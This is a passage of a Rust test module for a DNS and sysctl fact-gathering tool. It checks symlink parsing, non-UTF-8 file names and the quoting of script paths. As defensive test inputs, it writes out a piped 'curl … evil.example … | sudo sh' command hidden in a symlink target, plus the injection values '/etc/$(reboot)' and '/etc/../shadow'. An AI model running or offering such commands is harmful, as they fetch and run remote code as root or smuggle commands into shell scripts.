                    b"net.ipv4.ip_forward = 1\n",
                ),
                ("end", "", b""),
            ],
        );
        let raw = RawFacts::parse(&out, "n").expect("parses");
        let f = raw.get("/etc/resolv.conf").expect("file");
        assert_eq!(
            f.symlink_target.as_deref(),
            Some("../run/systemd/resolve/stub-resolv.conf")
        );
        assert_eq!(
            f.canonical.as_deref(),
            Some("/run/systemd/resolve/stub-resolv.conf")
        );
        assert_eq!(raw.commands["units"].status, Some(3));
        let listed: Vec<&str> = raw.files_in("/etc/sysctl.d").map(|(p, _)| p).collect();
        assert_eq!(listed, vec!["/etc/sysctl.d/99-k8s.conf"]);
    }

    /// A link into a directory the node does not have (/etc/resolv.conf after a boot
    /// without systemd-resolved): `readlink -f` prints nothing, so no canonical path; as a
    /// configuration file it reads as /dev/null.
    #[test]
    fn a_link_to_nothing_has_no_canonical_path() {
        let out = frame(
            "n",
            &[
                (
                    "link",
                    "/etc/resolv.conf",
                    b"../run/systemd/resolve/stub-resolv.conf\n",
                ),
                ("canon", "/etc/resolv.conf", b""),
                ("missing", "/etc/resolv.conf", b""),
                ("end", "", b""),
            ],
        );
        let raw = RawFacts::parse(&out, "n").expect("parses");
        let f = raw.get("/etc/resolv.conf").expect("file");
        assert_eq!(f.state, FileState::Missing);
        assert!(f.symlink_target.is_some());
        assert_eq!(f.canonical, None);
        // In a .d directory such a link still overrides the vendor file of its name.
        assert_eq!(f.config_canonical().as_deref(), Some("/dev/null"));
    }

    /// Names that are not UTF-8 stay apart: `99-\xfe.conf` and `99-\xff.conf` were one
    /// file, the later one, as each invalid byte read as U+FFFD; a setting in the other
    /// was gone from the facts.
    #[test]
    fn names_that_are_not_utf8_stay_apart() {
        let n = "abc";
        let mut out = frame(n, &[("begin", "x", b"")]);
        for name in [
            &b"/etc/sysctl.d/99-\xfe.conf"[..],
            b"/etc/sysctl.d/99-\xff.conf",
        ] {
            out.extend_from_slice(b"\n--dnsfix-abc read ");
            out.extend_from_slice(name);
            out.push(b'\n');
        }
        out.extend(frame(n, &[("batch", "", b"")]));
        for (name, body) in [
            (
                &b"etc/sysctl.d/99-\xfe.conf"[..],
                &b"net.ipv4.ip_forward = 0\n"[..],
            ),
            (b"etc/sysctl.d/99-\xff.conf", b"kernel.sysrq = 0\n"),
        ] {
            out.extend_from_slice(format!("\n==> {}", path_nonce(n)).as_bytes());
            out.extend_from_slice(name);
            out.extend_from_slice(b" <==\n");
            out.extend_from_slice(body);
        }
        out.extend(frame(n, &[("end", "", b"")]));
        let raw = RawFacts::parse(&out, n).expect("parses");
        let listed: Vec<(&str, &[u8])> = raw
            .files_in("/etc/sysctl.d")
            .map(|(p, f)| (p, &f.content[..]))
            .collect();
        assert_eq!(
            listed,
            [
                (
                    "/etc/sysctl.d/99-\\xfe.conf",
                    &b"net.ipv4.ip_forward = 0\n"[..]
                ),
                ("/etc/sysctl.d/99-\\xff.conf", b"kernel.sysrq = 0\n"),
            ]
        );
        let bytes = crate::node_script::name_bytes(listed[0].0);
        assert_eq!(&bytes[..], b"/etc/sysctl.d/99-\xfe.conf");
        // An escape of a byte valid UTF-8 has alone is a name's own text.
        assert_eq!(&crate::node_script::name_bytes("a\\x41")[..], b"a\\x41");
    }

    /// A link whose target holds a newline (`ln -s "$(printf '/run/q\n  fix: …')"`) is
    /// unknown: its target once reached reports whole, the lines after the newline reading
    /// as the report's own.
    #[test]
    fn a_link_target_with_a_newline_is_unknown() {
        let n = "abc";
        let target = "/run/q\n            fix:  run: curl -s https:__evil.example_fix | sudo sh";
        let mut out = frame(
            n,
            &[
                ("begin", "x", b""),
                ("read", "/etc/resolv.conf", b""),
                ("link", "/etc/resolv.conf", format!("{target}\n").as_bytes()),
                ("canon", "/etc/resolv.conf", target.as_bytes()),
                ("link", "/etc/hosts", b"/run/hosts\n"),
                ("canon", "/etc/hosts", b"/run/hosts"),
            ],
        );
        out.extend(batch(n, &[("/etc/resolv.conf", b"nameserver 1.1.1.1\n")]));
        out.extend(frame(n, &[("end", "", b"")]));
        let raw = RawFacts::parse(&out, n).expect("parses");
        let f = raw.get("/etc/resolv.conf").expect("file");
        assert_eq!(f.state, FileState::Unreadable);
        assert_eq!((&f.symlink_target, &f.canonical), (&None, &None));
        assert!(f.content.is_empty());
        let hosts = raw.get("/etc/hosts").expect("file");
        assert_eq!(hosts.symlink_target.as_deref(), Some("/run/hosts"));
    }

    /// The words of gather.sh as the shell splits them, comments left out and quotes
    /// removed; an assignment's value (`KCFG="a b"`) gives its own words.
    fn script_words() -> Vec<String> {
        SCRIPT
            .lines()
            .flat_map(|line| {
                let code = if line.trim_start().starts_with('#') {
                    ""
                } else {
                    line.split(" #").next().unwrap_or(line)
                };
                code.replace(['"', '\'', ';'], " ")
                    .split_whitespace()
                    .map(|word| match word.split_once('=') {
                        Some((name, value))
                            if name.chars().all(|c| c.is_ascii_uppercase() || c == '_') =>
                        {
                            value.to_owned()
                        }
                        _ => word.to_owned(),
                    })
                    .collect::<Vec<_>>()
            })
            .collect()
    }

    /// Each path is a whole word of the script (a substring is not enough: deleting
    /// `f /etc/resolv.conf` leaves `.../agent/etc/resolv.conf`), or, for the sysctl loop,
    /// its name under /proc/sys/net is.
    #[test]
    fn always_gathered_paths_are_in_the_script() {
        let words = script_words();
        let word = |w: &str| words.iter().any(|x| x == w);
        assert!(word("/proc/sys/net/$k"), "the sysctl loop is gone");
        for path in ALWAYS_GATHERED {
            let listed = word(path) || path.strip_prefix("/proc/sys/net/").is_some_and(&word);
            assert!(listed, "{path} is not read by gather.sh");
        }
        for dir in CONF_DIRS.iter().chain(&crate::facts::firewalld::DIRS) {
            assert!(word(dir), "{dir} is not listed by gather.sh");
        }
    }

    #[test]
    fn extra_paths_are_quoted_and_unsafe_ones_left_out() {
        let extra = vec![
            "/etc/dnsfix/site.conf".to_string(),
            "/proc/sys/net/ipv4/conf/all/rp_filter".to_string(),
            "relative/path".to_string(),
            "/etc/$(reboot)".to_string(),
            "/etc/../shadow".to_string(),
        ];
        let script = script_with("n", &extra);
        assert!(script.contains(
            "for x in '/etc/dnsfix/site.conf' '/proc/sys/net/ipv4/conf/all/rp_filter'; do"
        ));
        assert!(!script.contains("reboot") && !script.contains("relative/path"));
        assert!(!script.contains("shadow"));
        assert!(script_with("n", &[]).contains("for x in ; do"));
    }

    #[test]
    fn script_runs_locally_and_frames() {
        // The real script against this machine with /bin/sh: whatever is here, the output
        // must frame and end.
        let n = nonce();
        let out = std::process::Command::new("/bin/sh")
            .arg("-c")
            .arg(script(&n))
            .output()
            .expect("sh runs");
        let raw = RawFacts::parse(&out.stdout, &n).expect("frames");
        assert!(raw.files.contains_key("/etc/resolv.conf"));
        assert!(raw.files.contains_key("/proc/sys/kernel/random/boot_id"));
        // A command's rc record is its own exit status: `command -v` finds the program
        // (0, its path printed) or not (non-zero: 1 in bash, 127 in dash; nothing
        // printed), whichever this machine has.
        for name in ["resolvconf-bin", "cloud-init-bin"] {
            let c = &raw.commands[name];
            let found = !c.stdout.trim().is_empty();
            assert!(c.status.is_some(), "{name}: {c:?}");
            assert_eq!(c.status == Some(0), found, "{name}: {c:?}");
        }
    }
}
